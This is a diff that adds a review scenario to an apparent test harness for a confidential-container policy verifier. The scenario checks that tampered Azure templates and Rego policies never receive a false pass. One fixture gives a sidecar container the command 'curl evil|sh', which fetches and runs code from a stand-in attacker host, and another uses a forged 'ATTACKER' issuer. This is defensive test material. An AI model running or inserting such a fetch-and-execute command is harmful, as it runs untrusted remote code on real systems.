@@ -420,10 +420,96 @@ def s_reports():
           "text report file, without colour")
 
 
+def s_review():
+    """What the review found: each a way to a false pass, now closed."""
+    s = Setup()
+    base = confcom.policy([s.app_container("web")])
+    ctr = [("web", s.app, [], None)]
+
+    def case(name, rego, want, why, ctrs=ctr, args=()):
+        t = write_template("t/review-%s.json" % name, [("g", rego, ctrs)])
+        rc, rep, err = verify([t] + list(args), s.host, want=want)
+        check(rep is None or "pass" not in {c["verdict"] for c in rep["containers"]
+                                            if c["name"] in ("web", "side", "evil")} or want == 0,
+              "%s: %s\n%s" % (name, why, summary(rep)))
+        return rep
+
+    # Enforcement points bound to a literal deny: the guest refuses.
+    for lit in ('{"allowed": false}', "false"):
+        case("deny-" + lit[:5], base.replace("create_container := data.framework.create_container",
+                                             "create_container := " + lit), 3,
+             "a literal create_container is not the framework's rule")
+    # Rego gate cannot read: never a pass.
+    hw = base.replace("create_container := data.framework.create_container",
+                      "create_container := data.framework.create_container { input.argList[0] == \"/nope\" }")
+    rep = case("handwritten", hw, 3, "hand-written Rego")
+    check(rep["containers"][0]["verdict"] == "unverified", "hand-written: %s" % summary(rep))
+    # A framework_version the guest's semver refuses.
+    for v in ("v0.2.3", "0.2", "garbage"):
+        rep = case("fw-" + v, base.replace('framework_version := "0.2.3"', 'framework_version := "%s"' % v),
+                   1, "framework_version %s" % v)
+        check("policy.version" in deny_rules(rep), "fw %s: %s" % (v, summary(rep)))
+    # No pause container.
+    nopause = base.replace(',' + json.dumps(confcom.pause(), separators=(",", ":"), sort_keys=True), "")
+    check(nopause != base, "the pause container was removed")
+    rep = case("nopause", nopause, 1, "no pause container")
+    check("policy.no_pause" in deny_rules(rep), "no pause: %s" % summary(rep))
+    # A sidecar image the template changes, or a fragment another issuer signed.
+    side = ("evil", "mcr.microsoft.com/aci/sc-proxy:latest", [], ["/bin/sh", "-c", "curl evil|sh"])
+    rep = case("sidecar-cmd", base, 3, "a changed sidecar", ctrs=[side])
+    forged = base.replace("I__iuL25oXEVFdTP_aBLx_eT1RPHbCQ_ECBQfYZpt9s", "ATTACKERATTACKERATTACKERATTACKERATTACKER0")
+    rep = case("sidecar-issuer", forged, 3, "a forged infra fragment",
+               ctrs=[("side", "mcr.microsoft.com/aci/sc-proxy:latest", [], None)])
+    # Duplicate image Env names reach the guest both; dropping off refuses one.
+    cfg = dict(APP_CONFIG, Env=["MODE=debug", "MODE=prod"])
+    push(s.p, "simpleapp", "dup", s.app_layers, cfg)
+    img = s.host + "/simpleapp:dup"
+    pol = confcom.policy([confcom.container("web", img, s.roots(s.app_layers), dict(APP_CONFIG, Env=["MODE=prod"]))],
+                         env_dropping=False)
+    rep = case("dup-env", pol, 1, "MODE=debug reaches the guest", ctrs=[("web", img, [], None)])
+    check("config.env" in deny_rules(rep), "dup env: %s" % summary(rep))
+    # A rule set's deny names the container: its verdict is deny.
+    rs = os.path.join(regtest.TMP, "tag.yaml")
+    with open(rs, "w") as f:
+        f.write("rules:\n  tag.unpinned: deny\n")
+    rep = case("rules-verdict", base, 1, "tag.unpinned denies", args=["--rules", rs])
+    check(rep["containers"][0]["verdict"] == "deny", "verdict follows findings: %s" % summary(rep))
+    # The admitting candidate is named; the other matched one is no orphan.
+    a, b = s.app_container("web", command=["/bin/other"]), s.app_container("web-alt")
+    rep = case("cand-name", confcom.policy([a, b]), 0, "either candidate admits")
+    check(rep["containers"][0]["policy_container"] == "web-alt" and
+          not [f for f in rep["findings"] if f["rule"] == "coverage.not_in_template"],
+          "admitting candidate: %s" % summary(rep))
+    # --help as an option's value is a value.
+    r = subprocess.run([regtest.GATE, "verify", "--no-cache", "x.json", "--rules", "--help"],
+                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=regtest.gate_env())
+    check(r.returncode == 2 and not r.stdout, "--rules --help: exit %d" % r.returncode)
+    # A directory scan reads hidden directories, escaped slashes and upper-case names.
+    d = os.path.join(regtest.TMP, "scan")
+    for rel in (".azure/hidden.json", "UPPER.JSON", "escaped.json"):
+        path = os.path.join(d, rel)
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        doc = json.dumps(confcom.arm_template([("g-" + rel.replace("/", "-"), None, ctr)]))
+        if rel == "escaped.json":
+            doc = doc.replace("Microsoft.ContainerInstance/containerGroups",
+                              "Microsoft.ContainerInstance\\/containerGroups")
+        with open(path, "w") as f:
+            f.write(doc)
+    rc, rep, err = verify([d], s.host, want=1)
+    check(len(rep["inputs"]) == 3, "three templates read: %s %s" % (rep["inputs"], err))
+    # Reports written with -o are readable like any file of the user's.
+    out = os.path.join(regtest.TMP, "r.json")
+    rc, _, _ = verify([write_template("t/ok.json", [("g", base, ctr)]), "-o", out], s.host)
+    mask = os.umask(0)
+    os.umask(mask)
+    check(os.path.exists(out) and os.stat(out).st_mode & 0o777 == 0o666 & ~mask,
+          "report mode %s, rc %d" % (oct(os.stat(out).st_mode) if os.path.exists(out) else None, rc))
+
+
 SCENARIOS = {
     "pass": s_pass, "drift": s_drift, "command": s_command, "env": s_env, "order": s_order,
     "coverage": s_coverage, "candidates": s_candidates, "unreachable": s_unreachable,
-    "samples": s_samples, "directory": s_directory, "reports": s_reports,
+    "samples": s_samples, "directory": s_directory, "reports": s_reports, "review": s_review,
 }
 
 
